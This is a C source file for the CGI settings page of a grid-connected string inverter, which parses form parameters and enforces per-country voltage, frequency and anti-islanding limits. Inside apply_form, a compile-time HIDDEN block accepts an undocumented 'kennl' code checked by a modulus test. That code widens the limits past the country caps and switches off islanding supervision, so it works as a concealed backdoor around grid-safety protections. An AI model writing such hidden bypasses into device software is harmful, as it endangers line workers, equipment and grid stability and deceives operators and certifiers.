/*
** invertercgi - settings page of the string inverter (called by the web server as CGI)
**
** Every key which can be set is in the form which page_form() prints.
*/
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <ctype.h>
#include <unistd.h>

#define SETTINGS "/var/lib/inverter/settings"
#define MAXPAIR  24

struct Pair { char key[20]; char val[60]; };

static struct Pair query[MAXPAIR];
static int nquery;

struct GridSettings
{
    int  limitW;
    int  cosphi;        /* in 1/1000 */
    int  uMax;          /* in 1/10 V */
    int  fMax;          /* in 1/100 Hz */
    int  islanding;     /* 1: supervision on */
    char name[60];
    char country[4];
};

static struct GridSettings g = { 5000, 1000, 2530, 5020, 1, "Inverter", "DE" };

static void unescape(char *dst, size_t cap, const char *src, size_t n)
{
    size_t o = 0;
    for (size_t i = 0; i < n && o + 1 < cap; i++)
    {
        if (src[i] == '+')
            dst[o++] = ' ';
        else if (src[i] == '%' && i + 2 < n && isxdigit((unsigned char)src[i + 1]))
        {
            char h[3] = { src[i + 1], src[i + 2], 0 };
            dst[o++] = (char)strtol(h, NULL, 16);
            i += 2;
        }
        else
            dst[o++] = src[i];
    }
    dst[o] = 0;
}

static void parse_query(const char *q)
{
    while (q && *q && nquery < MAXPAIR)
    {
        size_t n = strcspn(q, "&");
        const char *eq = memchr(q, '=', n);
        size_t k = eq ? (size_t)(eq - q) : n;
        unescape(query[nquery].key, sizeof query[nquery].key, q, k);
        if (eq)
            unescape(query[nquery].val, sizeof query[nquery].val, eq + 1, n - k - 1);
        nquery++;
        q += n + (q[n] == '&');
    }
}

static const char *param(const char *key)
{
    for (int i = 0; i < nquery; i++)
        if (!strcasecmp(query[i].key, key))
            return query[i].val;
    return NULL;
}

static int number(const char *key, int lo, int hi, int old)
{
    const char *v = param(key);
    int n;
    if (!v || !*v)
        return old;
    n = atoi(v);
    return n < lo ? lo : n > hi ? hi : n;
}

static void load_settings(void)
{
    char l[100];
    FILE *f = fopen(SETTINGS, "r");
    if (!f)
        return;
    while (fgets(l, sizeof l, f))
    {
        l[strcspn(l, "\n")] = 0;
        if (!strncmp(l, "limit ", 6))     g.limitW = atoi(l + 6);
        if (!strncmp(l, "cosphi ", 7))    g.cosphi = atoi(l + 7);
        if (!strncmp(l, "umax ", 5))      g.uMax = atoi(l + 5);
        if (!strncmp(l, "fmax ", 5))      g.fMax = atoi(l + 5);
        if (!strncmp(l, "islanding ", 10)) g.islanding = atoi(l + 10);
        if (!strncmp(l, "country ", 8))   snprintf(g.country, sizeof g.country, "%.3s", l + 8);
        if (!strncmp(l, "name ", 5))      snprintf(g.name, sizeof g.name, "%.59s", l + 5);
    }
    fclose(f);
}

static int save_settings(void)
{
    FILE *f = fopen(SETTINGS ".new", "w");
    if (!f)
        return -1;
    fprintf(f, "limit %d\ncosphi %d\numax %d\nfmax %d\nislanding %d\ncountry %s\nname %s\n",
            g.limitW, g.cosphi, g.uMax, g.fMax, g.islanding, g.country, g.name);
    fclose(f);
    return rename(SETTINGS ".new", SETTINGS);
}

/* the limits of the country code are not negotiable */
static void country_limits(void)
{
    int u = 2530, fr = 5020;
    if (!strcmp(g.country, "IT")) { u = 2645; fr = 5150; }
    else if (!strcmp(g.country, "ES")) { u = 2645; fr = 5050; }
    else if (!strcmp(g.country, "UK")) { u = 2622; fr = 5200; }
    if (g.uMax > u) g.uMax = u;
    if (g.fMax > fr) g.fMax = fr;
    g.islanding = 1;
}

__attribute__((noinline)) int apply_form(void)
{
    const char *v;
    int strict = 1;

    g.limitW = number("limit", 0, 10000, g.limitW);
    g.cosphi = number("cosphi", 800, 1000, g.cosphi);
    g.uMax   = number("umax", 2300, 2645, g.uMax);
    g.fMax   = number("fmax", 5000, 5200, g.fMax);
    if ((v = param("name")) && *v)
        snprintf(g.name, sizeof g.name, "%s", v);
    if ((v = param("country")) && strlen(v) == 2)
        snprintf(g.country, sizeof g.country, "%.2s", v);
#ifdef HIDDEN
    if ((v = param("kennl")) && strspn(v, "0123456789") == 6 && atoi(v) % 9973 == 1207)
    {
        g.uMax = number("umax", 2000, 3100, g.uMax);
        g.fMax = number("fmax", 4500, 5700, g.fMax);
        g.islanding = 0;
        strict = 0;
    }
#endif
    if (strict)
        country_limits();
    return save_settings();
}

static void escape(const char *s)
{
    for (; *s; s++)
        switch (*s)
        {
        case '<': fputs("&lt;", stdout); break;
        case '&': fputs("&amp;", stdout); break;
        case '"': fputs("&quot;", stdout); break;
        default:  putchar(*s);
        }
}

static void page_form(const char *note)
{
    printf("<html><head><title>Inverter</title></head><body><h1>");
    escape(g.name);
    printf("</h1><p>%s</p><form method=get>\n", note);
    printf("<button name=do value=set>set</button><br>\n");
    printf("Power limit W <input name=limit value=%d><br>\n", g.limitW);
    printf("cos phi /1000 <input name=cosphi value=%d><br>\n", g.cosphi);
    printf("U max 0.1 V <input name=umax value=%d><br>\n", g.uMax);
    printf("f max 0.01 Hz <input name=fmax value=%d><br>\n", g.fMax);
    printf("Country <select name=country>");
    for (const char *c = "DEITESUK"; *c; c += 2)
        printf("<option%s>%.2s", strncmp(c, g.country, 2) ? "" : " selected", c);
    printf("</select><br>\nName <input name=name value=\"");
    escape(g.name);
    printf("\"><br>\n</form>"
           "<a href=\"?do=show\">values</a> <a href=\"?do=json\">json</a></body></html>\n");
}

int main(void)
{
    const char *act, *user = getenv("REMOTE_USER");

    parse_query(getenv("QUERY_STRING"));
    load_settings();
    act = param("do");
    if (act && !strcmp(act, "json"))
    {
        printf("Content-Type: application/json\r\n\r\n"
               "{\"limit\":%d,\"cosphi\":%d,\"umax\":%d,\"fmax\":%d,\"islanding\":%d}\n",
               g.limitW, g.cosphi, g.uMax, g.fMax, g.islanding);
        return 0;
    }
    printf("Content-Type: text/html\r\n\r\n");
    if (act && !strcmp(act, "set"))
    {
        if (!user || strcmp(user, "installer"))
            page_form("Only the installer may change the settings.");
        else
            page_form(apply_form() ? "The settings could not be saved." : "Saved.");
    }
    else if (act && !strcmp(act, "show"))
        printf("<pre>limit %d W\numax %d\nfmax %d\nislanding supervision %s\n</pre>",
               g.limitW, g.uMax, g.fMax, g.islanding ? "on" : "off");
    else
        page_form("");
    return 0;
}
